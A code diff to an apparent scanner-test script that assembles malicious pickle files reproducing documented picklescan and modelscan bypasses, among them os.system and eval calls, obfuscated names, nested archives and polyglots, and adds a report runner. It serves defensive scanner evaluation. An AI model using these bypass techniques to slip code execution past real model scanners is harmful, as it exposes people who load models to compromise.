@@ -3400,6 +3400,269 @@ MS_SKIPPED = [
 ]
 
 
+# ---- documented misses ----------------------------------------------------------
+# Bypasses picklescan's and modelscan's own issues and advisories document,
+# for which their test corpora have no file. Each is rebuilt from the
+# report's description (opcodes shown in the report, or the described
+# call); "upstream" names the report.
+
+
+def documented_entries():
+    import warnings
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", DeprecationWarning)
+        import mailcap
+    out = []
+
+    def add(name, source, does, says, data):
+        out.append(dict(file="documented/" + name, corpus="documented", upstream=source, expected="malicious",
+                        does=does, upstream_says=says, identical_to_upstream=False, data=data))
+        if "issues/330" in source:  # the report gives the file's hex: these are its bytes
+            out[-1]["identical_to_upstream"] = True
+
+    add("modelscan-85_build_overwrite.pkl", "https://github.com/protectai/modelscan/issues/85",
+        "BUILD writes 'os'/'system' into numpy.prod's attributes; GLOBAL numpy prod.a / prod.b read them back and "
+        "STACK_GLOBAL calls os.system", "modelscan: no issue found (issue open)", asm("""
+PROTO 5
+GLOBAL 'numpy prod'
+NONE
+MARK
+UNICODE 'a'
+UNICODE 'os'
+DICT
+TUPLE2
+BUILD
+NONE
+MARK
+UNICODE 'b'
+UNICODE 'system'
+DICT
+TUPLE2
+BUILD
+POP
+GLOBAL 'numpy prod.a'
+PUT 0
+GLOBAL 'numpy prod.b'
+PUT 1
+POP
+POP
+GET 0
+GET 1
+STACK_GLOBAL
+UNICODE 'echo pwned!!!'
+TUPLE1
+REDUCE
+STOP
+"""))
+    add("modelscan-330_numpy_builtins.pkl", "https://github.com/protectai/modelscan/issues/330",
+        "STACK_GLOBAL numpy.__builtins__ (an allowed module's namespace), BUILD, then eval taken from it",
+        "modelscan: no issues (issue open)", asm("""
+PROTO 4
+FRAME 102
+SHORT_BINUNICODE 'numpy'
+SHORT_BINUNICODE 'size'
+STACK_GLOBAL
+MEMOIZE
+MEMOIZE
+SHORT_BINUNICODE 'numpy'
+SHORT_BINUNICODE '__builtins__'
+STACK_GLOBAL
+MEMOIZE
+MEMOIZE
+BINGET 1
+EMPTY_DICT
+EMPTY_DICT
+SHORT_BINUNICODE 'shape'
+BINGET 3
+SETITEM
+TUPLE2
+BUILD
+BINGET 1
+BINGET 1
+SHORT_BINUNICODE 'eval'
+TUPLE2
+REDUCE
+SHORT_BINUNICODE '__import__("os").system("id")'
+TUPLE1
+REDUCE
+STOP
+"""))
+    join = """
+BINGET 2
+BINGET 2
+BINGET 1
+SHORT_BINUNICODE 'str'
+TUPLE2
+REDUCE
+SHORT_BINUNICODE 'join'
+TUPLE2
+REDUCE
+SHORT_BINUNICODE ''
+EMPTY_LIST
+MARK
+%s
+APPENDS
+TUPLE2
+REDUCE
+"""
+    letters = lambda w: "\n".join("SHORT_BINUNICODE %r" % c for c in w)
+    add("modelscan-331_importlib_join.pkl", "https://github.com/protectai/modelscan/issues/331",
+        "importlib.import_module + builtins.getattr; 'os' and 'system' are joined from letters at load time",
+        "modelscan: no issues (issue open)", asm("""
+PROTO 4
+SHORT_BINUNICODE 'importlib'
+SHORT_BINUNICODE 'import_module'
+STACK_GLOBAL
+MEMOIZE
+SHORT_BINUNICODE 'builtins'
+TUPLE1
+REDUCE
+MEMOIZE
+SHORT_BINUNICODE 'builtins'
+SHORT_BINUNICODE 'getattr'
+STACK_GLOBAL
+MEMOIZE
+""" + join % letters("os") + """
+MEMOIZE
+BINGET 0
+BINGET 3
+TUPLE1
+REDUCE
+MEMOIZE
+BINGET 2
+BINGET 4
+""" + join % letters("system") + """
+TUPLE2
+REDUCE
+SHORT_BINUNICODE 'id'
+TUPLE1
+REDUCE
+STOP
+"""))
+    nested = b"cbuiltins\nprint\n(S'This pickle has been exploited!'\ntR."
+    add("modelscan-267_nested_pickle_loads.pickle", "https://github.com/protectai/modelscan/issues/267",
+        "_pickle.loads of a nested pickle", "modelscan v0.8.4: no issue although pickle is on its list",
+        asm("""
+PROTO 4
+SHORT_BINUNICODE '_pickle'
+SHORT_BINUNICODE 'loads'
+STACK_GLOBAL
+SHORT_BINBYTES %r
+TUPLE1
+REDUCE
+STOP
+""" % nested))
+    for name, mod, fn, args in (
+            ("collect_env_run", "torch.utils.collect_env", "run", "SHORT_BINUNICODE 'rm pwnd.txt'\nTUPLE1"),
+            ("mlflow_run_entry_point", "mlflow.projects.backend.local", "_run_entry_point",
+             "MARK\nSHORT_BINUNICODE 'echo bypass'\nSHORT_BINUNICODE '.'\nSHORT_BINUNICODE ''\n"
+             "SHORT_BINUNICODE ''\nTUPLE"),
+            ("pandas_read_csv", "pandas.io.parsers.readers", "read_csv",
+             "SHORT_BINUNICODE 'https://example.invalid/?pwned=pandas_bypass'\nTUPLE1")):
+        add("modelscan-338_%s.pkl" % name, "https://github.com/protectai/modelscan/issues/338 (1. alternative "
+            "execution primitives)", "%s.%s(...)" % (mod, fn), "modelscan 0.8.8: no issue (issue open)",
+            asm("PROTO 4\nSHORT_BINUNICODE %r\nSHORT_BINUNICODE %r\nSTACK_GLOBAL\n%s\nREDUCE\nSTOP\n" % (mod, fn, args)))
+    add("modelscan-338_builtins_introspection.pkl", "https://github.com/protectai/modelscan/issues/338 (introspection "
+        "chain)", "GLOBAL builtins 'print.__class__.__base__.__subclasses__': every GLOBAL names only builtins",
+        "modelscan 0.8.8: no issue", asm("""
+PROTO 2
+GLOBAL 'builtins print.__class__.__base__.__subclasses__'
+EMPTY_TUPLE
+REDUCE
+STOP
+"""))
+    add("modelscan-338_indirect_model_loading.pkl", "https://github.com/protectai/modelscan/issues/338 (11. indirect "
+        "model loading)", "transformers getattribute_from_module(AutoTokenizer, 'from_pretrained')('zpbrent/reuse'): "
+        "loads another model from the Hub", "modelscan 0.8.8: no issue", asm("""
+PROTO 4
+SHORT_BINUNICODE 'transformers.models.auto.auto_factory'
+SHORT_BINUNICODE 'getattribute_from_module'
+STACK_GLOBAL
+SHORT_BINUNICODE 'transformers.models.auto.tokenization_auto'
+SHORT_BINUNICODE 'AutoTokenizer'
+STACK_GLOBAL
+SHORT_BINUNICODE 'from_pretrained'
+TUPLE2
+REDUCE
+SHORT_BINUNICODE 'zpbrent/reuse'
+TUPLE1
+REDUCE
+STOP
+"""))
+    add("modelscan-346_mailcap_findmatch.pkl", "https://github.com/protectai/modelscan/pull/346",
+        "mailcap.findmatch(caps, 'text/plain') runs the entry's test command", "modelscan: not on its list (PR open)",
+        dumps(Reduce(mailcap.findmatch, ({"text/plain": [{"view": "cat %s", "test": "true"}]}, "text/plain")), 4))
+
+    system_p2 = dumps(Reduce(os.system, ("id",)), 2)
+    add("picklescan-CVE-2025-10155_pickle_named.bin", "JFrog, CVE-2025-10155 (picklescan file extension bypass)",
+        "a plain pickle calling os.system under a PyTorch extension", "picklescan < 0.0.31: routed to the PyTorch "
+        "scanner, which fails; fixed upstream", system_p2)
+    sd = small_state_dict()
+    benign_zip = torch_save(sd, True)
+    import zipfile
+
+    zin = zipfile.ZipFile(io.BytesIO(benign_zip))
+    members = [(n, zin.read(n)) for n in zin.namelist()]
+    prefix = members[0][0].split("/")[0]
+    add("picklescan-GHSA-769v-p64c-89pr_config_json.pt",
+        "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr (CVE-2025-1889)",
+        "torch zip with a benign data.pkl and a pickle calling os.system in %s/config.json, loaded by "
+        "torch.load(f, pickle_file='config.json') (see picklescan's malicious19.pkl)" % prefix,
+        "picklescan < 0.0.22: only *.pkl entries scanned; fixed upstream",
+        zip_bytes(members[:1] + [(prefix + "/config.json", system_p2)] + members[1:]))
+    evil_pt = zip_bytes([("archive/data.pkl", system_p2), ("archive/version", b"3\n")])
+    add("nested_zip_in_zip.zip", "no upstream statement found; checked because the brief lists nested archives",
+        "a zip holding model.pt, a torch zip whose data.pkl calls os.system", "picklescan scans one zip level",
+        zip_bytes([("model.pt", evil_pt)]))
+    import gzip
+
+    add("gzip_torch_zip.pt.gz", "no upstream statement found; checked because the brief lists nested archives",
+        "gzip of a torch zip whose data.pkl calls os.system", "picklescan/modelscan: .gz not scanned",
+        gzip.compress(evil_pt, mtime=0))
+    add("polyglot_pickle_then_zip.pt", "fickling's polyglot module (format confusion); no picklescan/modelscan "
+        "statement found", "a pickle calling os.system followed by a benign torch zip: pickle.load and torch.load's "
+        "legacy path run the pickle, zip readers see a zip", "-", system_p2 + benign_zip)
+    return out
+
+
+# ---- report -----------------------------------------------------------------
+
+
+def report(ckpt):
+    """Runs the ckpt CLI on every manifest file (it only reads them) and
+    prints the per-corpus table and the per-file appendix in markdown."""
+    import subprocess
+
+    m = json.loads((OUT / "manifest.json").read_text())
+    rows, per = [], {}
+    for e in m["files"]:
+        r = subprocess.run([ckpt, "scan", "--json", str(OUT / e["file"])], capture_output=True, text=True)
+        rep = json.loads(r.stdout) if r.stdout.strip() else {"verdict": "?", "findings": [], "problems": []}
+        ok = r.returncode == 1 if e["expected"] == "malicious" else r.returncode in (0, 3)
+        seen = ["%s %s" % (f["verdict"], f["global"]) for f in rep.get("findings") or [] if f["verdict"] != "allowed"]
+        seen += ["problem: %s" % p["error"].replace(str(OUT) + "/", "") for p in rep.get("problems") or []]
+        t = per.setdefault(e["corpus"], [0, 0, 0, 0])
+        i = 0 if e["expected"] == "malicious" else 2
+        t[i] += ok
+        t[i + 1] += 1
+        rows.append((e, r.returncode, ok, "; ".join(dict.fromkeys(seen)) or "only allowed globals"))
+    print("| corpus | malicious caught (exit 1) | benign passed (exit 0 or 3) |")
+    print("|---|---|---|")
+    tot = [0, 0, 0, 0]
+    for c in sorted(per):
+        t = per[c]
+        tot = [a + b for a, b in zip(tot, t)]
+        print("| %s | %d / %d | %d / %d |" % (c, t[0], t[1], t[2], t[3]))
+    print("| **all** | **%d / %d** | **%d / %d** |" % tuple(tot))
+    print()
+    print("| file | expected | exit | ok | what ckpt scan reports (beyond allowed globals) | upstream scanner's tests |")
+    print("|---|---|---|---|---|---|")
+    for e, rc, ok, seen in rows:
+        print("| %s | %s | %d | %s | %s | %s |" % (e["file"], e["expected"], rc, "yes" if ok else "**NO**",
+                                                 seen.replace("|", "\\|"), e["upstream_says"].replace("|", "\\|")))
+
+
 # ---- main -------------------------------------------------------------------
 
 
@@ -3409,9 +3672,15 @@ def main():
     ap.add_argument("--offset", type=int, default=0, help="with --transcribe: where the pickle starts")
     ap.add_argument("--check-upstream", metavar="DIR",
                     help="picklescan checkout: check that every listing assembles to its upstream file")
+    ap.add_argument("--report", metavar="CKPT",
+                    help="run `CKPT scan --json` on every manifest file and print the markdown tables of "
+                         "docs/scan-corpora.md")
     args = ap.parse_args()
     if args.transcribe:
         print(transcribe(Path(args.transcribe).read_bytes(), args.offset))
+        return
+    if args.report:
+        report(args.report)
         return
     if args.check_upstream:
         bad = [up for up, lst in PICKLESCAN_LISTINGS.items()
@@ -3419,7 +3688,8 @@ def main():
         print("listings differing from upstream:", bad or "none")
         sys.exit(1 if bad else 0)
 
-    entries = list(picklescan_entries()) + list(fickling_entries()) + modelscan_entries()
+    entries = (list(picklescan_entries()) + list(fickling_entries()) + modelscan_entries() +
+               documented_entries())
     if OUT.exists():
         shutil.rmtree(OUT)
     manifest = []
